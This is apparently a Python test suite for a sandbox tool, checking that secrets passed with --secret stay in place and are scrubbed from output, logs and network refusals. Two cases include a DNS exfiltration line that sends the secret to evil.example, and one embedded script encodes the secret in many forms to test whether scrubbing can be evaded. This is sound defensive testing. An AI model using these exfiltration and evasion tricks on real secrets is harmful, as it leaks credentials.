#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Secrets handed in with --secret: where they may be, and where their values must not turn up (A163 to A166)."""
import base64
import json
import os
import shutil
import string
import subprocess
import sys
import urllib.parse

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from aisbxtest import Suite  # noqa: E402

from chance import chance  # noqa: E402

suite = Suite("secrets")
VALUE = "CANARY-s3cr3t.*(value)[x]"

# Names only: a value would not come out of the sandbox as it is, and that is another case.
WHERE = r"""
grep -lasF -f /run/secrets/TOKEN /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/self/mountinfo
grep -rlasF -f /run/secrets/TOKEN /run /tmp /var/tmp /dev/shm . 2>/dev/null
stat -c '%a %u' /run/secrets/TOKEN /run/secrets; id -u; exit 0
"""


def token(t, value=VALUE, name="secret-file"):
    return t.caller.put_at(os.path.join(t.caller.dir, name), value, 0o600)


def aisbx(t, *words, **kw):
    return subprocess.run([t.caller.program, *map(str, words)], capture_output=True, text=True, errors="replace",
                          cwd=t.caller.workspace, env=t.caller.env, check=False, timeout=120, **t.caller.identity(), **kw)


def kept(t, value=VALUE):
    """Files outside that hold the value, but for the one it came from."""
    done = subprocess.run(["grep", "-rlasF", "-e", value, t.caller.dir, t.caller.home], capture_output=True, text=True, check=False)
    return [line for line in done.stdout.split("\n") if line and os.path.basename(line) != "secret-file"]


def shown_control(t):
    """A file that is merely shown is printed, and the log keeps it."""
    path = token(t)
    result = t.box.run("cat", "/data/token", flags=["--ro", f"{path}:/data/token"])
    t.ok(VALUE in result.out and kept(t), "printed and kept", result)
    shutil.rmtree(os.path.join(t.caller.home, ".local/state/aisbx/logs"), ignore_errors=True)


@suite.case("A163", "where a secret may be: a run", shown_control)
def places_of_run(t):
    path = token(t)
    result = t.box.run("sh", "-c", WHERE, flags=["--secret", f"TOKEN={path}"])
    user = result.out.split()[-1]
    t.equal(result.out.split("\n")[:-1], ["/run/secrets/TOKEN", f"400 {user}", f"700 {user}", user], f"places inside: {result}")
    t.equal(kept(t), [], "files outside that hold it")
    plan = aisbx(t, "plan", "--secret", f"TOKEN={path}", "--", "true")
    t.ok(plan.returncode == 0 and VALUE not in plan.stdout, "the plan does not hold it", plan.stdout[-500:])


@suite.case("A163b", "where a secret may be: a named sandbox", shown_control)
def places_of_sandbox(t):
    path = token(t)
    name = f"sec{os.getpid()}"
    made = aisbx(t, "create", name, "--secret", f"TOKEN={path}")
    t.equal(made.returncode, 0, f"create: {made.stderr}")
    try:
        result = aisbx(t, "exec", name, "--secret", f"OTHER={path}", "--", "sh", "-c", WHERE + "echo > made")
        inside = [line for line in result.stdout.split("\n") if line.startswith("/")]
        t.equal(sorted(inside), ["/run/secrets/OTHER", "/run/secrets/TOKEN"], f"places inside: {result}")
        left = aisbx(t, "exec", name, "--", "sh", "-c", "ls /run/secrets; exit 0")
        t.equal(left.stdout, "TOKEN\n", f"one command's own is gone with it: {left}")
        for words in (["snap", name], ["diff", name], ["diff", name, "--json"], ["inspect", name, "--json"], ["history", "--json"]):
            done = aisbx(t, *words)
            t.ok(done.returncode == 0 and VALUE not in done.stdout, f"{words} does not hold it", done)
        t.equal(kept(t), [], "files outside that hold it")
    finally:
        aisbx(t, "rm", name)


@suite.case("A164d", "a secret on a command line inside, and in what was refused to a named sandbox", shown_control)
def processes(t):
    value = "CanaryTopSecretValue12345"
    path = token(t, value + "\n")
    name = f"sec{os.getpid()}"
    made = aisbx(t, "create", name, "--secret", f"TOKEN={path}", "--allow", "good.example:443")
    t.equal(made.returncode, 0, f"create: {made.stderr}")
    script = "getent hosts $(cat /run/secrets/TOKEN).evil.example; sh -c 'sleep 300; true' $(cat /run/secrets/TOKEN) & sleep 0.2"
    try:
        aisbx(t, "exec", name, "--", "sh", "-c", script + " >/dev/null 2>&1 </dev/null")
        for words in (["inspect", name, "--json"], ["snap", name], ["snap", name, "--json"], ["net", name, "--json"], ["history", "--json"]):
            done = aisbx(t, *words)
            shown = done.stdout + done.stderr
            t.ok(value.lower() not in shown.lower(), f"{words} does not hold it", done)
            t.ok("[secret TOKEN]" in shown or words[0] == "history", f"{words} names it", done)
    finally:
        aisbx(t, "stop", name)
        aisbx(t, "rm", name)


@suite.case("A163c", "a link inside in the place of the secrets", "there is no such place outside")
def moved_place(t):
    path = token(t)
    name = f"sec{os.getpid()}"
    t.equal(aisbx(t, "create", name).returncode, 0, "create")
    try:
        moved = aisbx(t, "exec", name, "--", "sh", "-c", "mkdir kept; rmdir /run/secrets && ln -s $PWD/kept /run/secrets; ls -l /run")
        t.ok("secrets ->" in moved.stdout, "the place can be moved inside", moved)
        result = aisbx(t, "exec", name, "--secret", f"TOKEN={path}", "--", "sh", "-c", "cat /run/secrets/TOKEN; exit 0")
        t.ok(result.returncode == 125 and "/run/secrets" in result.stderr, "refused", result)
        t.equal(kept(t), [], "files outside that hold it")
    finally:
        aisbx(t, "rm", name)


PRINTS = """
import os, sys, time
value = open("/run/secrets/TOKEN").read().strip().encode()
for fd in (1, 2):
    os.write(fd, b"whole " + value + b" twice " + value + value + b"\\n")
    for i in range(len(value)):
        os.write(fd, value[i:i + 1])
        time.sleep(0.001)
    os.write(fd, b"\\n" + b"x" * (65536 - 7 - 5) + value + b"y" * 65536 + value[:-1] + b"\\n")
"""


@suite.case("A164", "a secret that is printed: whole, in parts, over the buffer's edge, on both streams", shown_control)
def scrubbed(t):
    path = token(t)
    for as_json in (True, False):
        result = t.box.run("python3", "-c", PRINTS, flags=["--secret", f"TOKEN={path}"], as_json=as_json)
        for stream in (result.out, result.err_inside):
            t.ok(VALUE not in stream and stream.count("[secret TOKEN]") == 5, "five times its name instead", result)
            t.ok(f"y{VALUE[:-1]}\n" in stream, "what is only like it stays", result)
    code, shown = t.box.on_pty("sh", "-c", "cat /run/secrets/TOKEN; echo; cat /run/secrets/TOKEN >&2", flags=["--secret", f"TOKEN={path}"])
    t.ok(code == 0 and shown.count(b"[secret TOKEN]") == 2 and VALUE.encode() not in shown, "on a terminal", shown)
    t.equal(kept(t), [], "files outside that hold it, the kept logs among them")


# Every coding, behind 0 to 2 other bytes, in writes that are cut at random places, to both streams.
ENCODES = """
import base64, json, os, random, sys, urllib.parse
chance, value = random.Random(sys.argv[1]), open("/run/secrets/TOKEN", "rb").read()
CODINGS = [
    base64.b64encode, base64.urlsafe_b64encode, base64.encodebytes,
    lambda b: b.hex().encode(), lambda b: b.hex().upper().encode(), lambda b: b.hex(":").encode(),
    lambda b: ", ".join("0x%02x" % c for c in b).encode(),
    lambda b: urllib.parse.quote(b, safe="").encode(), lambda b: "".join("%%%02X" % c for c in b).encode(),
    lambda b: json.dumps(b.decode()).encode(), lambda b: "".join("\\\\u%04x" % c for c in b).encode(),
    lambda b: "".join("\\\\x%02x" % c for c in b).encode(), lambda b: "".join("\\\\%03o" % c for c in b).encode(),
]
for coding in CODINGS:
    for front in (b"", b"<", b"<<"):
        text = b"[" + coding(front + value + b">>>") + b"]\\n"
        for fd in (1, 2):
            cuts = sorted(chance.sample(range(1, len(text)), 3))
            for part in (text[a:b] for a, b in zip([0] + cuts, cuts + [len(text)])):
                os.write(fd, part)
"""
ENCODED = 13 * 3


def in_codings(value):
    """What must not be shown of a value: the middle of it, in each coding."""
    raw = value.encode()
    for front in (b"", b"<", b"<<"):
        text = base64.b64encode(front + raw + b">>>").decode()
        yield text[6:-8]
        yield text[6:-8].replace("+", "-").replace("/", "_")
    for form in ("%02x", "%02X", "%%%02X", "\\u%04x", "\\x%02x", "\\%03o"):
        yield "".join(form % c for c in raw[2:])
    yield raw.hex(":")[6:]
    yield ", ".join(f"0x{c:02x}" for c in raw[2:])
    yield urllib.parse.quote(value, safe="")[4:]
    yield value


@suite.case("A164e", "a secret in its usual encodings, on every face that shows output", shown_control)
def encoded(t):
    random = chance("secrets.encoded")
    value = "".join(random.choice(string.ascii_letters + string.digits + "+/ %") for _ in range(random.randint(8, 64))).strip() + "x-9%q"
    path = token(t, value)
    name, flags, seed = f"enc{os.getpid()}", ["--secret", f"TOKEN={path}"], str(random.random())
    command = ["python3", "-c", ENCODES, seed]

    def hidden(shown, what, count=ENCODED):
        left = [form for form in in_codings(value) if form in shown]
        t.ok(not left and shown.count("[secret TOKEN]") == count, f"{what}: {left} {shown.count('[secret TOKEN]')}", shown)
    result = t.box.run(*command, flags=flags)
    hidden(result.out, "stdout in a result")
    hidden(result.err_inside, "stderr in a result")
    hidden(aisbx(t, "logs", result.json["run_id"]).stdout, "the log", 2 * ENCODED)
    passed = aisbx(t, "run", *flags, "--", *command)
    hidden(passed.stdout, "stdout that is passed on")
    hidden(passed.stderr, "stderr that is passed on")
    code, shown = t.box.on_pty(*command, flags=flags)
    hidden(shown.decode(), "a terminal", 2 * ENCODED)
    try:
        t.equal(aisbx(t, "create", name, *flags).returncode, 0, "create")
        started = json.loads(aisbx(t, "exec", "-d", "--json", name, "--", *command).stdout)["exec_id"]
        polled = {"state": "running"}
        while polled["state"] == "running":
            polled = json.loads(aisbx(t, "poll", started, "--wait", "30s", "--json").stdout)
        hidden(polled["stdout"], "poll, stdout")
        hidden(polled["stderr"], "poll, stderr")
        aisbx(t, "exec", name, "--", "sh", "-c", "base64 -w0 /run/secrets/TOKEN > coded")
        hidden(aisbx(t, "files", "read", name, "coded").stdout, "files read", 1)
        before = aisbx(t, "exec", name, "--", "sh", "-c", "echo :end >> coded; cksum < coded").stdout
        edited = aisbx(t, "files", "edit", name, "coded", "--old", ":end", "--new", ":end")
        after = aisbx(t, "exec", name, "--", "sh", "-c", "cksum < coded").stdout
        t.ok(edited.returncode == 0 and before == after, "an edit keeps what it does not replace", (before, after, edited))
    finally:
        aisbx(t, "stop", name)
        aisbx(t, "rm", name)
    for form in in_codings(value):
        left = [file for file in kept(t, form) if "/.local/state/" in file]
        t.equal(left, [], f"logs that hold it as {form}")


@suite.case("A164b", "a secret of several lines, also as a terminal shows it", "as A164")
def scrubbed_lines(t):
    path = token(t, "-----BEGIN KEY-----\nCANARY-line-1\nCANARY-line-2\n-----END KEY-----\n")
    flags = ["--secret", f"KEY={path}"]
    result = t.box.run("sh", "-c", "cat /run/secrets/KEY; cat /run/secrets/KEY >&2", flags=flags)
    t.ok(result.out == "[secret KEY]\n" and result.err_inside == "[secret KEY]\n", "as it lies in the file", result)
    code, shown = t.box.on_pty("cat", "/run/secrets/KEY", flags=flags)
    t.ok(code == 0 and shown.count(b"[secret KEY]") == 1 and b"CANARY" not in shown, "on a terminal", shown)
    result = t.box.run("sh", "-c", "tail -n +3 /run/secrets/KEY; head -2 /run/secrets/KEY; grep -o 'CANARY-line-2' /run/secrets/KEY >&2",
                       flags=flags)
    t.ok("CANARY" not in result.out + result.err_inside and result.out.count("[secret KEY]") == 2, "line by line", result)


@suite.case("A164c", "a secret in a name that is looked up, and refused", shown_control)
def scrubbed_denials(t):
    value = "CanaryTopSecretValue12345"
    path = token(t, value + "\n")
    script = "getent hosts $(cat /run/secrets/TOKEN).evil.example; true"
    for as_json in (True, False):
        result = t.box.run("sh", "-c", script, flags=["--secret", f"TOKEN={path}", "--allow", "good.example:443"], as_json=as_json)
        everything = f"{result.json} {result.err}"
        t.ok("[secret TOKEN].evil.example" in everything and value.lower() not in everything.lower(), "the refusal names it only", result)
    t.equal(kept(t, value.lower()), [], "files outside that hold it")


@suite.case("A165e", "output that ends with what a secret begins with", "nothing is held back outside")
def beginnings(t):
    path = token(t)
    for _ in range(20):
        done = aisbx(t, "run", "--secret", f"TOKEN={path}", "--", "printf", "TOKEN ab" + VALUE[0])
        t.equal(done.stdout, "TOKEN ab" + VALUE[0], "it comes out as it was written")


@suite.case("A166", "files that are no secrets, and many that are", "refusals have no outside")
def edges(t):
    place = os.path.join(t.caller.dir, "edges")
    os.makedirs(place, exist_ok=True)
    t.caller.own(place)
    wrong = {"empty": ("", "is empty"), "short": ("x\n", "too short"), "big": ("y" * (1 << 20), "64 KiB")}
    for name, (value, why) in wrong.items():
        path = t.caller.put_at(os.path.join(place, name), value, 0o600)
        result = aisbx(t, "run", "--secret", f"T={path}", "--", "echo", "ran")
        t.ok(result.returncode == 125 and why in result.stderr and "ran" not in result.stdout, f"{name} is refused", result)
    os.mkfifo(os.path.join(place, "pipe"))
    t.caller.own(os.path.join(place, "pipe"))
    for path in (os.path.join(place, "pipe"), place, "/dev/zero", os.path.join(place, "absent")):
        result = aisbx(t, "run", "--secret", f"T={path}", "--", "echo", "ran")
        t.ok(result.returncode == 125 and path in result.stderr and "ran" not in result.stdout, f"{path} is refused", result)
    flags = []
    for i in range(101):
        path = t.caller.put_at(os.path.join(place, f"many{i}"), f"value-{i}-of-many", 0o600)
        flags += ["--secret", f"S{i}={path}"]
    result = t.box.run("sh", "-c", "cat /run/secrets/S7 /run/secrets/S99; yes value- | head -c 200000", flags=flags[:200], timeout=60)
    t.ok(result.out.startswith("[secret S7][secret S99]value-\n") and result.json["stdout_bytes"] == 200023, "a hundred", result)
    result = aisbx(t, "run", *flags, "--", "echo", "ran")
    t.ok(result.returncode == 125 and "more than 100" in result.stderr, "one more is refused", result)
    shutil.rmtree(place)


suite.main()
